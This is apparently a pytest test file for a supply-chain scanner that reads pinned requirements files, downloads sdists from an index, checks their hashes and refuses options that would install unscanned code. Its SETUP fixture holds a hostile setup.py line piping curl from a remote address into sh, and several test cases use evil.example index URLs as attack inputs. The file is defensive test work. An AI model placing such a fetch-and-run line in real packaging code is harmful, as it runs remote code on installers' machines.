"""Requirements files fetched from an index, hash-checked, never run (caplet._scan._fetch)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from caplet._errors import ScanError
from caplet._scan._fetch import (
    DEFAULT_INDEX,
    MAX_REQUIREMENTS_BYTES,
    Pinned,
    default_index,
    fetch,
    read_requirements,
)
from tests._cli.clikit import caplet, document
from tests._scan.index import Index, sdist, serve

SETUP = "import os\nos.system('curl -s http://192.0.2.1/x | sh')\n"


def test_pinned_requirements_are_read_with_pip_options_and_comments_skipped(
    tmp_path: Path,
) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text(
        "# generated\n--index-url https://x.example/simple\n\n"
        "requests==2.32.3 \\\n    --hash=sha256:abc\nidna==3.7  # via requests\n"
    )
    assert read_requirements(path) == [Pinned("requests", "2.32.3", 4), Pinned("idna", "3.7", 6)]


@pytest.mark.parametrize("line", ["requests>=2", "requests", "requests==2.*"])
def test_an_unpinned_requirement_is_refused_with_the_line(tmp_path: Path, line: str) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text(f"idna==3.7\n{line}\n")
    with pytest.raises(ScanError, match=r"line 2: requests is not pinned to one version"):
        read_requirements(path)


def test_an_unreadable_requirements_file_says_so(tmp_path: Path) -> None:
    with pytest.raises(ScanError, match="cannot read requirements file"):
        read_requirements(tmp_path / "missing.txt")


def test_the_index_comes_from_the_environment() -> None:
    assert default_index({}) == "https://pypi.org/simple"
    assert default_index({"PIP_INDEX_URL": "http://a"}) == "http://a"
    assert (
        default_index({"PIP_INDEX_URL": "http://a", "CAPLET_INDEX_URL": "http://b"}) == "http://b"
    )


def test_the_sdist_of_the_pinned_version_is_downloaded(tmp_path: Path) -> None:
    wanted = sdist("evil", "1.0", {"setup.py": SETUP})
    index = Index({"evil": {"evil-1.0.tar.gz": wanted, "evil-2.0.tar.gz": b"other"}})
    with serve(index):
        path = fetch(Pinned("Evil", "1.0", 3), index.url, tmp_path, Path("req.txt"))
    assert path == tmp_path / "evil-1.0.tar.gz"
    assert path.read_bytes() == wanted
    assert "/simple/evil/" in index.requests


def test_a_file_that_does_not_match_its_hash_is_refused_and_removed(tmp_path: Path) -> None:
    index = Index({"evil": {"evil-1.0.tar.gz": b"payload"}}, {"evil-1.0.tar.gz": "0" * 64})
    with serve(index), pytest.raises(ScanError, match="does not match the index's sha256"):
        fetch(Pinned("evil", "1.0", 1), index.url, tmp_path, Path("req.txt"))
    assert list(tmp_path.iterdir()) == []


def test_a_missing_project_or_version_names_the_line(tmp_path: Path) -> None:
    index = Index({"evil": {"evil-2.0.tar.gz": b"x"}})
    with serve(index):
        with pytest.raises(ScanError, match=r"req.txt line 4: nope==1.0: the index .* no project"):
            fetch(Pinned("nope", "1.0", 4), index.url, tmp_path, Path("req.txt"))
        with pytest.raises(ScanError, match="no file of that version"):
            fetch(Pinned("evil", "1.0", 1), index.url, tmp_path, Path("req.txt"))


def test_an_index_that_cannot_be_reached_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    with pytest.raises(ScanError, match="cannot reach the index"):
        fetch(Pinned("x", "1", 1), "http://127.0.0.1:9/simple", tmp_path, Path("r.txt"))


# -- attacks (scanfuzz): what pip installs must be what is scanned ----------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("-r base.txt", r"line 2: -r 'base.txt' is not followed by the scan; scan that file"),
        ("--requirement=base.txt", r"line 2: --requirement 'base.txt' is not followed"),
        ("-rbase.txt", r"line 2: -r 'base.txt' is not followed"),
        ("-e ./vendored", r"line 2: -e './vendored' is not followed by the scan; scan that tree"),
        ("--extra-index-url https://evil.example/simple", r"line 2: --extra-index-url"),
        ("-f https://evil.example/links", r"line 2: -f 'https://evil.example/links'"),
        # split with a backslash, as pip joins it
        ("--extra-\\\nindex-url https://evil.example/simple", r"line 2: --extra-index-url"),
    ],
)
def test_an_option_that_installs_what_was_not_scanned_is_refused(
    tmp_path: Path, line: str, expected: str
) -> None:
    # it was skipped: the pins of base.txt, or a release from another index, were
    # installed by pip and never scanned, and the scan said nothing about them
    path = tmp_path / "requirements.txt"
    path.write_text(f"idna==3.7\n{line}\nrequests==2.32.3\n")
    with pytest.raises(ScanError, match=expected):
        read_requirements(path, DEFAULT_INDEX)


def test_an_index_other_than_the_scanned_one_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text("--index-url https://evil.example/simple\nrequests==2.32.3\n")
    with pytest.raises(ScanError) as caught:
        read_requirements(path, DEFAULT_INDEX)
    assert str(caught.value) == (
        f"{path} line 1: --index-url 'https://evil.example/simple': pip installs from that "
        f"index, this scan fetches from {DEFAULT_INDEX}; pass --index-url "
        "https://evil.example/simple to scan what pip installs"
    )
    # the same index (a trailing slash aside) is what is scanned
    assert read_requirements(path, "https://evil.example/simple/") == [
        Pinned("requests", "2.32.3", 2)
    ]


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_a_requirements_file_that_is_no_regular_file_is_refused(tmp_path: Path, kind: str) -> None:
    # a FIFO hung the scan (read_text waited for a writer); /dev/zero read until memory
    # ran out. The hang is guarded by the subprocess's timeout.
    path = tmp_path / "requirements.txt"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    result = caplet("scan", "-r", "requirements.txt", "--json", cwd=tmp_path, timeout=60)
    assert result.returncode != 0
    assert document(result)["error"]["message"] == (
        "cannot read requirements file requirements.txt: not a regular file "
        "(a FIFO, device or directory); pass the file itself"
    )


def test_a_requirements_file_over_the_limit_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    with path.open("wb") as handle:
        handle.truncate(MAX_REQUIREMENTS_BYTES + 1)  # sparse
    with pytest.raises(ScanError, match=f"larger than {MAX_REQUIREMENTS_BYTES} bytes; split it"):
        read_requirements(path)
